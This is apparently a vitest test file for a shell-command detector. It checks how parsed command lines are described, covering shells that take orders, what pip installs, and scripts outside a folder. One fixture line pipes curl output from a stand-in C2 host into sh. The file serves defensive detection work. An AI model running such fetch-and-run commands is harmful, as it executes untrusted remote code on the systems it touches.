import { shellActions } from '@weir/code';
import { expect, test } from 'vitest';
import type { DetectorInput } from '../contract.ts';
import { isLeftOut, ordersOf, packagesOf } from './started.ts';

test.each([
  ['sh', 'starts sh, which waits for orders'],
  ['curl http://c2.weir.test/x | sh', 'starts sh, which runs what is downloaded'],
  ['cat x | bash', 'starts bash, which runs what it is handed'],
])('a shell in %s %s', (line, says) => {
  const { actions } = shellActions(line);
  const shell = actions.find(({ argv }) => argv.length === 1);
  expect(shell && ordersOf(shell, actions)).toBe(says);
});

test.each([
  [
    'pip install --index-url http://index.weir.test/simple tool',
    'installs tool from http://index.weir.test/simple',
  ],
  ['pip install -U one two==2', 'installs one two==2'],
  ['pip install -r requirements.txt', 'installs packages'],
])('what %s installs', (line, says) => {
  expect(packagesOf(shellActions(line).actions)).toBe(says);
});

test.each([
  ['python ./own_ext/gen/generate.py', true],
  ['python generate.py', false],
  ['python ./other/generate.py', false],
  ['sh own_ext', false],
])('whether the script of %s was left out of a folder that is there: %s', (line, says) => {
  const [action] = shellActions(line).actions;
  const files = new Map([['own_ext/cuda.c', {}]]) as unknown as DetectorInput['files'];
  expect(action && isLeftOut({ files }, action)).toBe(says);
});
